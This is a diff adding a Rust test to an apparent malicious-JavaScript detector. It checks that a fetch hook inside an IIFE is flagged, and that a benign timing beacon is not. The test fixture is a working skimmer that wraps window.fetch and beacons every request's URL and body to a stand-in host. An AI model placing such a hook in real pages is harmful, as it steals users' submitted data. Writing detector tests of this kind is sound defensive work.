@@ -1683,6 +1683,48 @@ window.fetch = function (resource, options) {
 }
 
 #[test]
+fn functions_declared_inside_an_iife_are_followed() {
+    // A bundle-style wrapper: the beaconing helper is a function of the IIFE's body,
+    // which runs as the file's top level; the hooked `fetch` hands it request bodies.
+    let src = r#"
+;(function (win) {
+  'use strict';
+  var endpoint = 'https://telemetry.example.invalid/in';
+  function relay(where, data) {
+    navigator.sendBeacon(endpoint, JSON.stringify({ w: where, d: String(data) }));
+  }
+  var nativeFetch = window.fetch;
+  window.fetch = function (res, opts) {
+    if (opts && opts.body) relay(String(res), opts.body);
+    return nativeFetch.apply(this, arguments);
+  };
+})(window);
+"#;
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .any(|(k, _, d)| *k == K::BrowserHijack && d.contains("through relay()")),
+        "{f:?}"
+    );
+    // The same wrapper beaconing only what it measured itself stays quiet.
+    let timing = r#"
+(function () {
+  function report(ms) { navigator.sendBeacon('/rum', JSON.stringify({ ms: ms })); }
+  var nativeFetch = window.fetch;
+  window.fetch = function (res, opts) {
+    var t0 = Date.now();
+    return nativeFetch.apply(this, arguments).then(function (r) { report(Date.now() - t0); return r; });
+  };
+})();
+"#;
+    assert!(
+        !kinds(timing).contains(&K::BrowserHijack),
+        "{:?}",
+        facts(timing)
+    );
+}
+
+#[test]
 fn constant_code_written_to_a_file_then_forked_is_read_as_code() {
     // Lines of an agent joined into a temporary file, which fork() then runs: what the
     // text does is what the package runs.
